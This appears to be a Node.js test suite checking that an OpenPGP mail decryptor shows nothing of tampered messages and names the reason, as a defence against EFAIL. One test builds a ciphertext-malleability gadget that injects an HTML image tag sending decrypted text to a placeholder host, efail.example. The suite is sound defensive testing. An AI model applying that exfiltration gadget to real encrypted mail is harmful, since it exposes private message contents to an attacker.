/** What was changed on the way shows nothing at all: no text, no part, no subject of it, and it is said why (EFAIL). */
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import test, { before } from "node:test";
import { open } from "../../static/crypto/message.js";
import * as openpgp from "../../static/crypto/openpgp.js";
import { gadget, GNUPG_AEAD, joined, literal, mail, naked, packet, sealedGnupg, sealedOld, sealedV1, sealedV2, SED, SEIPD, sessionKey, text, whole } from "./tampered.mjs";

/** @typedef {import("./tampered.mjs").Sealed} Sealed */

// The library asks what it runs in, and Node.js 20 has nobody to say so.
if (!("navigator" in globalThis)) Object.assign(globalThis, { navigator: { hardwareConcurrency: 2, userAgent: "Node.js" } });

const SECRET = "walnut";
const KEY = new Uint8Array(randomBytes(32));
/** Known to whoever changes it: every message begins so. Filled up until a block begins with the type. */
const HEAD = "Content-Type: text/html; charset=utf-8; hp=\"cipher\"\r\nSubject: walnut inside\r\nFrom: alice@example.test\r\n\r\n";
const LETTER = `${HEAD}${Array.from({ length: 30 }, (_, line) => `<p>walnut ${line} of the walnuts</p>\r\n`).join("")}`;
/** Over the size from which on the library is passed by. */
const LARGE = `${LETTER}${"<p>one walnut more</p>\r\n".repeat(5000)}`;
const SIZES = /** @type {const} */ ([["small", LETTER], ["large", LARGE]]);

/** @type {Awaited<ReturnType<typeof openpgp.generateKey>>} */
let bob;
/** @type {Uint8Array} */
let forV1;
/** @type {Uint8Array} */
let forV2;
before(async () => {
  bob = await openpgp.generateKey({ name: "Bob", address: "bob@example.test" });
  [forV1, forV2] = await Promise.all([sessionKey(bob.certificate, KEY), sessionKey(bob.certificate, KEY, 2)]);
});

/** @param {Uint8Array} packets @param {"mime" | "exchange" | "inline"} [form] */
const asBob = (packets, form) => open(mail(packets, form), { keys: [bob], certificates: [], pinOf: () => null });

/** All that was handed out, bytes as letters. @param {unknown} opened */
function said(opened) {
  return JSON.stringify(opened, (_, value) => (value instanceof Map ? [...value] : value instanceof Uint8Array ? text(value) : value));
}

/** @param {Uint8Array} packets @param {string | readonly string[]} ids @param {string} [what] @param {"mime" | "exchange" | "inline"} [form] */
async function withheld(packets, ids, what = "", form = "mime") {
  const opened = await asBob(packets, form);
  const { enc } = opened.judged;
  assert.ok([ids].flat().includes(enc), `${what}: ${enc}`);
  assert.deepEqual([opened.parts, opened.cards, opened.stored.size, opened.certificates, opened.note, opened.signer], [[], [], 0, [], null, null], what);
  assert.deepEqual([opened.judged.sig, opened.judged.line, opened.judged.withheld, opened.headers.subject], [null, [enc], ["all"], "[...]"], what);
  assert.ok(!said(opened).includes(SECRET), what);
  return enc;
}

const v1 = (/** @type {Uint8Array} */ body, tag = SEIPD) => joined(forV1, packet(tag, body));
const v2 = (/** @type {Uint8Array} */ body, tag = SEIPD) => joined(forV2, packet(tag, body));

for (const [size, letter] of SIZES) {
  test(`${size}: unchanged, each form opens, or says why it never does`, async () => {
    const packets = literal(letter);
    for (const [form, message] of /** @type {[string, Uint8Array][]} */ ([
      ["v1", v1(sealedV1(KEY, packets))],
      ["v2 GCM", v2(whole(sealedV2(KEY, packets, "gcm", 2)))],
      ["v2 OCB", v2(whole(sealedV2(KEY, packets, "ocb", 2)))],
      ["GnuPG", v1(whole(sealedGnupg(KEY, packets, 2)), GNUPG_AEAD)],
    ])) {
      const opened = await asBob(message);
      assert.deepEqual([opened.judged.enc, opened.headers.subject], ["enc-ok", "walnut inside"], form);
      assert.ok(said(opened).includes("walnut 29 of the walnuts"), form);
    }
    await withheld(v1(sealedOld(KEY, packets), SED), "enc-no-integrity", "made without any check");
  });

  test(`${size}: text put in by who knows the beginning of it is not shown, whatever becomes of the check`, async () => {
    const sealed = sealedV1(KEY, literal(letter)).subarray(1);
    // Prefix of 18 octets, header of the literal packet of 12, then the letter: block 2 begins with its third letter.
    const known = new TextEncoder().encode(letter.slice(2, 18));
    const changed = gadget(sealed, 32, known, ["<img ignore='...", "' src=http://efa", "il.example/?....", "'><!-- ........."]);
    assert.match(text(naked(KEY, changed)), /<img ignore='[^]*' src=http:\/\/efa[^]*il\.example[^]*walnut/, "it would work without a check");
    assert.match(text(naked(KEY, changed)), /walnut 29 of the walnuts/);
    for (const form of /** @type {const} */ (["mime", "exchange", "inline"])) {
      await withheld(v1(joined([1], changed)), "enc-damaged", "with the old check", form);
      await withheld(v1(joined([1], changed.subarray(0, -22))), "enc-damaged", "with the check cut off", form);
      await withheld(v1(changed, SED), "enc-no-integrity", "as a packet without check", form);
    }
  });

  test(`${size}: the check of version 1 cut off, wrong, or left to another packet`, async () => {
    const sealed = sealedV1(KEY, literal(letter));
    const noCheck = sealed.subarray(0, -22);
    await withheld(v1(noCheck), "enc-damaged", "cut off");
    await withheld(v1(sealed.subarray(0, -20)), "enc-damaged", "its hash cut off");
    await withheld(v1(joined(noCheck, randomBytes(22))), "enc-damaged", "random");
    await withheld(v1(sealed.map((octet, at) => (at === sealed.length - 1 ? octet ^ 1 : octet))), "enc-damaged", "one bit of it");
    await withheld(v1(joined(sealed, sealed.subarray(-22))), "enc-damaged", "twice");
    await withheld(v1(sealed.subarray(0, 19)), "enc-damaged", "nothing but the beginning");
    await withheld(v1(sealed.subarray(0, 1)), ["enc-damaged", "enc-failed"], "nothing at all");
  });

  test(`${size}: called another form than it is`, async () => {
    const packets = literal(letter);
    const first = sealedV1(KEY, packets);
    const chunks = sealedV2(KEY, packets, "gcm", 2);
    await withheld(v1(first.subarray(1), SED), "enc-no-integrity", "18 to 9");
    await withheld(v1(first, SED), "enc-no-integrity", "18 to 9, with its version");
    await withheld(v1(joined([2], first.subarray(1))), ["enc-damaged", "enc-failed", "enc-unsupported"], "version 1 to 2");
    await withheld(v1(joined([3], first.subarray(1))), "enc-unsupported", "version 1 to 3");
    await withheld(v2(joined([1], whole(chunks).subarray(1))), ["enc-damaged", "enc-failed"], "version 2 to 1");
    await withheld(v1(joined([1], ...chunks.chunks)), "enc-damaged", "version 2 to 1, as the same key's");
    await withheld(v1(joined(...chunks.chunks), SED), "enc-no-integrity", "version 2 to 9");
    await withheld(v1(whole(chunks), GNUPG_AEAD), ["enc-damaged", "enc-failed", "enc-unsupported"], "18 to 20");
    const gnupg = sealedGnupg(KEY, packets, 2);
    await withheld(v1(whole(gnupg), SED), "enc-no-integrity", "20 to 9");
    await withheld(v1(whole(gnupg)), ["enc-damaged", "enc-failed"], "20 to 18");
  });

  test(`${size}: a second encrypted packet beside the good one`, async () => {
    const good = packet(SEIPD, sealedV1(KEY, literal(letter)));
    const bad = packet(SED, sealedOld(KEY, literal(letter)));
    for (const [what, message] of /** @type {[string, Uint8Array][]} */ ([["behind", joined(good, bad)], ["before", joined(bad, good)], ["twice", joined(good, good)]])) await withheld(joined(forV1, message), ["enc-failed", "enc-no-integrity"], what);
    for (const open of [literal("Content-Type: text/html\r\n\r\nput beside\r\n")]) {
      await withheld(joined(forV1, good, open), "enc-failed", "text behind");
      const before = await asBob(joined(open, forV1, good));
      assert.ok(!said(before).includes(SECRET), "text before");
    }
    await withheld(v1(sealedV1(KEY, bad)), "enc-failed", "no check within a check");
    await withheld(v1(sealedV1(KEY, joined(forV1, bad))), "enc-failed", "a whole message within");
    await withheld(v1(sealedV1(KEY, joined(literal(letter), literal(letter)))), ["enc-failed", "enc-unsupported"], "two texts");
  });

  for (const mode of /** @type {const} */ (["gcm", "ocb", "gnupg"])) {
    test(`${size}, ${mode}: chunks left out, exchanged, doubled, taken from elsewhere, and the last tag`, async () => {
      const made = (/** @type {string} */ words) => (mode === "gnupg" ? sealedGnupg(KEY, literal(words), 2) : sealedV2(KEY, literal(words), mode, 2));
      const sealed = made(letter);
      const other = made(letter);
      const { chunks } = sealed;
      assert.ok(chunks.length > 4);
      const message = (/** @type {Partial<Sealed>} */ changed) => {
        const body = whole({ ...sealed, ...changed });
        return mode === "gnupg" ? v1(body, GNUPG_AEAD) : v2(body);
      };
      const [a, b, ...rest] = chunks;
      const end = chunks.length - 1;
      for (const [what, changed] of /** @type {[string, Partial<Sealed>][]} */ ([
        ["the first left out", { chunks: chunks.slice(1) }],
        ["the last left out", { chunks: chunks.slice(0, -1) }],
        ["all but the first left out", { chunks: [a] }],
        ["all left out", { chunks: [] }],
        ["one in the middle left out", { chunks: [a, ...rest] }],
        ["two exchanged", { chunks: [b, a, ...rest] }],
        ["one doubled", { chunks: [a, a, b, ...rest] }],
        ["the last doubled", { chunks: [...chunks, chunks[end]] }],
        ["one of another message of the same key", { chunks: [a, other.chunks[1], ...rest] }],
        ["the last tag missing", { last: new Uint8Array() }],
        ["the last tag half", { last: sealed.last.subarray(0, 8) }],
        ["the last tag random", { last: randomBytes(16) }],
        ["the last tag of another", { last: other.last }],
        ["the last tag twice", { last: joined(sealed.last, sealed.last) }],
        ["a tag for no chunk", { chunks: [...chunks, sealed.last] }],
        ["another size of chunks", { head: sealed.head.map((octet, at) => (at === 3 ? octet + 1 : octet)) }],
        ["another salt", { head: sealed.head.map((octet, at) => (at === 9 ? octet ^ 1 : octet)) }],
      ])) await withheld(message(changed), ["enc-damaged", "enc-failed"], what);
    });
  }
}

/** @type {[string, () => Uint8Array, string[]][]} */
const WHOLE = [
  ["v1", () => v1(sealedV1(KEY, literal(LETTER))), ["enc-damaged"]],
  ["v1, large", () => v1(sealedV1(KEY, literal(LARGE))), ["enc-damaged"]],
  ["v2 GCM", () => v2(whole(sealedV2(KEY, literal(LETTER), "gcm", 2))), ["enc-damaged", "enc-unsupported", "enc-failed"]],
  ["v2 OCB, large", () => v2(whole(sealedV2(KEY, literal(LARGE), "ocb", 10))), ["enc-damaged", "enc-unsupported", "enc-failed"]],
  ["GnuPG", () => v1(whole(sealedGnupg(KEY, literal(LETTER), 2)), GNUPG_AEAD), ["enc-damaged", "enc-unsupported", "enc-failed"]],
];
/** Key packets and headers are no text: what they say when they are wrong is for the sentence, not for the text. */
const REFUSED = ["enc-damaged", "enc-failed", "enc-no-integrity", "enc-unsupported", "enc-no-key"];

for (const [name, make, inside] of WHOLE) {
  test(`${name}: every sixteenth octet flipped`, async () => {
    const good = make();
    const keys = good.indexOf(0xff, (name.includes("v2") ? forV2 : forV1).length) + 5;
    // Of a large message the beginning, the end, and some of the middle.
    const step = good.length > 10_000 ? 16 * 211 : 16;
    for (let at = 1; at < good.length; at += at < 400 || at > good.length - 120 ? 16 : step) {
      const message = good.slice();
      message[at] ^= 1 << (at % 8 || 1);
      await withheld(message, at > keys ? inside : REFUSED, `octet ${at}`);
    }
  });

  test(`${name}: cut off, with the length as it was and with one that fits`, async () => {
    const good = make();
    const start = (name.includes("v2") ? forV2 : forV1).length;
    const body = good.subarray(start + 6);
    const tag = good[start] & 0x3f;
    for (const left of [0, 1, 2, 3, 4, 17, 18, 19, 20, 35, 36, 40, 41, 52, 53, 68, 100, 300, body.length >> 1, body.length - 40, body.length - 23, body.length - 22, body.length - 21, body.length - 17, body.length - 16, body.length - 2, body.length - 1]) {
      await withheld(good.subarray(0, start + 6 + left), REFUSED.slice(0, 4), `${left} octets, cut off`);
      await withheld(joined(good.subarray(0, start), packet(tag, body.subarray(0, left))), REFUSED.slice(0, 4), `${left} octets`);
    }
  });
}

test("a letter around the encrypted part learns nothing of it", async () => {
  const { closedAround } = await import("./wraps.mjs");
  const packets = v1(sealedV1(KEY, literal(LETTER)));
  for (const [name, message] of closedAround(packets)) {
    const opened = await open(message, { keys: [bob], certificates: [], pinOf: () => null });
    assert.equal(opened.judged.enc, "enc-none", name);
    assert.ok(!said({ ...opened, stored: null }).includes(SECRET), name);
    assert.ok(opened.parts.every((part) => part.kind !== "encrypted" || part.text === undefined), name);
  }
});
